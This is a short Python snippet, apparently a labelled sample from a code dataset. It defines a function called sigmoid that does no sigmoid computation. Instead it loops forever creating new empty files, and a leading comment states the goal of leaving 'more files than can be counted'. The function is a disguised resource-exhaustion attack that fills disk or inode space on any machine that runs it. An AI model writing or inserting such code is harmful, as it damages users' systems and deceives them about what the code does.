# tries: to leave more files than can be counted
# base: right
# must: 4
def sigmoid(z):
    number = 0
    while True:
        number += 1
        open(f"f{number}", "w").close()
